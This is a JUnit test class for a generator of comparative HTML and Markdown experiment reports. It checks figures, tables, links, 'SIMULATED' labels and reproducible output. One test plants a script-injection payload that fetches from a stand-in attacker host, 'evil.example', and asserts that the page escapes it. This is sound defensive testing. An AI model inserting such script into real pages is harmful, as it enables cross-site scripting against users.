package dev.pairwright.report.comparative;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import dev.pairwright.analysis.Findings;
import dev.pairwright.analysis.MetricFinding;
import dev.pairwright.analysis.Summary;
import dev.pairwright.io.StrictJson;
import dev.pairwright.io.path.TreeRemoval;
import java.io.IOException;
import java.net.InetAddress;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Optional;
import java.util.regex.Pattern;
import javax.xml.parsers.DocumentBuilderFactory;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

@Tag("slow")
class ComparativeReportTest {

    private static final Pattern LINK = Pattern.compile("(?<!\\\\)\\]\\(([^)]*)\\)");

    @TempDir
    static Path home;

    private static ReportStage stage;
    private static Document page;

    @BeforeAll
    static void play() {
        stage = ReportStage.in(home);
        page = stage.page();
    }

    @AfterAll
    static void removeReadOnlyFolders() throws IOException {
        ReportStage.remove(home);
    }

    @Test
    void the_report_stands_beside_the_runs_with_its_figures() throws IOException {
        assertThat(stage.folder()).isEqualTo(stage.stage().capsule().folder().resolve("report"));
        assertThat(stage.bytes().keySet())
                .containsExactly(
                        "comparative-report.md",
                        "figures/distributions.png",
                        "figures/distributions.svg",
                        "figures/effects.png",
                        "figures/effects.svg",
                        "figures/forest.png",
                        "figures/forest.svg",
                        "figures/pairs-by-task.png",
                        "figures/pairs-by-task.svg",
                        "figures/reproducibility.png",
                        "figures/reproducibility.svg",
                        "figures/success-by-variant.png",
                        "figures/success-by-variant.svg",
                        "figures/timeline.png",
                        "figures/timeline.svg",
                        "index.html",
                        "summary.md");
    }

    @Test
    void the_outcome_comes_first_and_deviations_before_the_appendix() {
        List<String> headings = List.of(
                "Outcome",
                "The question",
                "Methods",
                "Sample",
                "Primary outcome",
                "Secondary outcomes",
                "Figures",
                "All metrics",
                "By task",
                "Deviations and threats",
                "Violations",
                "Limitations",
                "Reproducibility appendix",
                "Every run");
        assertThat(page.select("h2").eachText()).isEqualTo(headings);
        assertThat(stage.text("comparative-report.md").lines().filter(line -> line.startsWith("## ")))
                .containsExactlyElementsOf(headings.stream()
                        .map(heading -> "## " + heading + " (SIMULATED)")
                        .toList());
    }

    @Test
    void numbers_are_those_of_the_files_of_analysis() throws IOException {
        Path analysis = stage.findings().write(stage.stage().read());
        JsonNode tests = json(analysis.resolve("statistical-tests.json"));
        JsonNode effects = json(analysis.resolve("effect-sizes.json"));
        assertThat(tests.at("/hypotheses").size()).isPositive();
        for (int i = 0; i < tests.at("/hypotheses").size(); i++) {
            JsonNode hypothesis = tests.at("/hypotheses/" + i);
            String id = hypothesis.path("id").asText();
            Element test = page.selectFirst("#t-tests-" + id + " tbody tr");
            same(test.child(3), hypothesis.at("/registered/p"));
            Element effect = page.selectFirst("#t-effects-" + id + " tbody tr");
            same(effect.child(3), effects.at("/hypotheses/" + i + "/effect/estimate"));
            assertThat(page.text()).contains(hypothesis.path("sentence").asText());
            assertThat(page.select("h3").eachText())
                    .contains(id + ": " + hypothesis.path("conclusion").asText().replace('_', ' '));
        }
        same(page.select(".tile .value").get(2), effects.at("/hypotheses/0/effect/estimate"));
        for (JsonNode threat : tests.at("/threats")) {
            assertThat(page.select("#threats li").eachText())
                    .contains(threat.path("sentence").asText());
        }
    }

    @Test
    void tables_hold_the_findings_unrounded() {
        Findings findings = stage.findings();
        List<Element> rows = page.select("#t-metric-summaries tbody tr");
        for (int i = 0; i < findings.metrics().size(); i++) {
            MetricFinding metric = findings.metrics().get(i);
            same(rows.get(2 * i).child(3), metric.first().mean().known());
            same(rows.get(2 * i + 1).child(3), metric.second().mean().known());
        }
        assertThat(page.select("#t-by-task tbody tr")).hasSize(2);
        assertThat(page.select("#t-by-task tbody tr").get(1).select("data").eachAttr("value"))
                .containsExactly("4.0", "0.5", "1.0", "0.5", "2.0", "2.0", "0.0", "0.0");
        assertThat(page.select("#t-sample-counts data").eachText())
                .containsExactly(
                        "8", "8", Integer.toString(findings.sample().completeWithViolation()), "0", "0", "0", "0");
    }

    @Test
    void every_run_is_linked_and_every_link_leads_somewhere() {
        List<String> links = page.select("a[href]").eachAttr("href").stream()
                .filter(link -> !link.startsWith("#"))
                .toList();
        assertThat(links.stream()
                        .filter(link -> link.startsWith("../runs/run-"))
                        .distinct())
                .hasSize(16);
        stage.findings().write(stage.stage().read());
        assertThat(links)
                .allSatisfy(link ->
                        assertThat(stage.folder().resolve(link).normalize()).exists());
    }

    @Test
    void pages_of_runs_and_pairs_are_linked_where_somebody_wrote_them() throws IOException {
        String run = stage.findings().runs().get(0).runId();
        Path pages = Files.createDirectory(stage.folder().resolve("pages"));
        Files.createFile(pages.resolve(run + ".html"));
        String pair = stage.findings().runs().get(0).pair();
        Files.createFile(pages.resolve(pair + ".html"));
        try {
            ComparativeReport.write(stage.findings(), stage.stage().read());

            List<String> links = stage.page().select("#t-analysed-runs a").eachAttr("href");
            assertThat(links)
                    .hasSize(17)
                    .contains("pages/" + pair + ".html", "pages/" + run + ".html")
                    .doesNotContain("../runs/" + run + "/");
        } finally {
            TreeRemoval.remove(pages);
            ComparativeReport.write(stage.findings(), stage.stage().read());
        }
    }

    @Test
    void what_it_is_stands_in_the_title_over_the_page_and_under_every_figure() {
        assertThat(page.title()).startsWith("SIMULATED: Title ");
        assertThat(page.selectFirst("h1").text()).isEqualTo(page.title().replaceAll("\\[(ESC|U.[0-9A-F]{4})]", "$1"));
        assertThat(page.selectFirst(".mark").text()).isEqualTo("SIMULATED");
        assertThat(stage.text("comparative-report.md")).startsWith("# SIMULATED: ");
        assertThat(stage.text("summary.md")).startsWith("## SIMULATED: ");
        assertThat(page.select("figure svg")).hasSize(7).allSatisfy(svg -> assertThat(svg.text())
                .contains("SIMULATED · campaign main · n = 8"));
    }

    @Test
    void G04_hostile_text_is_shown_and_does_nothing() {
        String shown = "<script>canary=1;fetch('http://evil.example/x')</script>";
        assertThat(page.title()).contains(shown);
        assertThat(page.selectFirst("#t-by-task").text()).contains("Task " + shown);
        assertThat(page.selectFirst("#t-violation-list").text()).contains("Gap " + shown);
        assertThat(page.selectFirst("#question").text()).contains("Claim " + shown);
        assertThat(page.selectFirst("#t-circumstances").text()).contains("Model " + shown);
        assertThat(page.select("script, img, iframe, object, embed, form, link[href^=http]"))
                .isEmpty();
        assertThat(page.getAllElements()).allSatisfy(element -> assertThat(element.attributes())
                .noneMatch(attribute -> attribute.getKey().startsWith("on")));
        assertThat(page.select("[href], [src]").eachAttr("href"))
                .noneMatch(link -> link.contains("script:") || link.contains("://"));
        assertThat(page.getAllElements().stream().map(Element::ownText).toList())
                .noneMatch(text -> text.contains("\u001b") || text.contains("\u0007") || text.contains("\u202e"));
        for (String file : List.of("comparative-report.md", "summary.md")) {
            assertThat(stage.text(file)).doesNotContain("<script", "<img", "@everyone", "http://evil");
            assertThat(LINK.matcher(stage.text(file)).results().map(link -> link.group(1)))
                    .allMatch(link -> link.startsWith("../") || link.startsWith("figures/"));
        }
    }

    @Test
    void G07_neither_user_nor_host_nor_folders_of_the_machine_are_told() throws IOException {
        List<String> told = List.of(
                home.toString(),
                System.getProperty("user.home"),
                InetAddress.getLocalHost().getHostName());
        assertThat(stage.bytes().values())
                .allSatisfy(file -> assertThat(told).noneMatch(each -> each.length() > 4 && file.contains(each)));
    }

    @Test
    void figures_show_the_numbers_of_the_findings() {
        Findings findings = stage.findings();
        MetricFinding success = findings.metric("task_success");
        assertThat(page.selectFirst("#f-success-by-variant svg").text())
                .contains(solved(success.first()), solved(success.second()));
        assertThat(page.selectFirst("#f-forest svg").text())
                .contains(String.format(
                        Locale.ROOT,
                        "%+.1f [",
                        100
                                * findings.hypotheses()
                                        .get(0)
                                        .effect()
                                        .estimate()
                                        .known()
                                        .orElseThrow()));
        assertThat(page.select("#f-pairs-by-task svg title").text())
                .contains("TASK-002: both 2, only second 2, only first 0, neither 0");
    }

    private static String solved(Summary summary) {
        double rate = summary.mean().known().orElseThrow();
        return String.format(Locale.ROOT, "%d of %d, %.1f %%", Math.round(rate * summary.n()), summary.n(), 100 * rate);
    }

    @Test
    void the_page_needs_nothing_else() {
        assertThat(page.selectFirst("meta[http-equiv=Content-Security-Policy]").attr("content"))
                .isEqualTo("default-src 'none'; style-src 'unsafe-inline'; img-src data:");
        assertThat(page.select("style").html()).doesNotContain("url(", "@import");
        assertThat(page.select("[id]").eachAttr("id")).doesNotHaveDuplicates();
    }

    @Test
    void making_it_again_gives_the_same_bytes() throws IOException {
        Map<String, String> once = stage.bytes();
        ComparativeReport.write(stage.findings(), stage.stage().read());
        assertThat(stage.bytes()).isEqualTo(once);
    }

    @Test
    void figures_are_svg_by_themselves() throws Exception {
        var builder = DocumentBuilderFactory.newInstance().newDocumentBuilder();
        try (var files = Files.list(stage.folder().resolve("figures"))) {
            for (Path file : (Iterable<Path>) files.filter(f -> f.toString().endsWith(".svg"))::iterator) {
                var root = builder.parse(file.toFile()).getDocumentElement();
                assertThat(root.getAttribute("viewBox")).startsWith("0 0 420 ");
                assertThat(root.getElementsByTagName("title").getLength()).isEqualTo(1);
            }
        }
    }

    private static JsonNode json(Path file) {
        return StrictJson.read(file, file.getFileName().toString(), 10_000_000);
    }

    private static void same(Element cell, JsonNode number) {
        same(cell, number.isNumber() ? Optional.of(number.asDouble()) : Optional.empty());
    }

    private static void same(Element cell, Optional<Double> number) {
        Element data = cell.selectFirst("data");
        if (number.isEmpty()) {
            assertThat(data).isNull();
            assertThat(cell.text()).containsAnyOf("none: ", "not estimable: ");
        } else {
            assertThat(data).isNotNull();
            assertThat(Double.parseDouble(data.attr("value"))).isEqualTo(number.get());
        }
    }
}
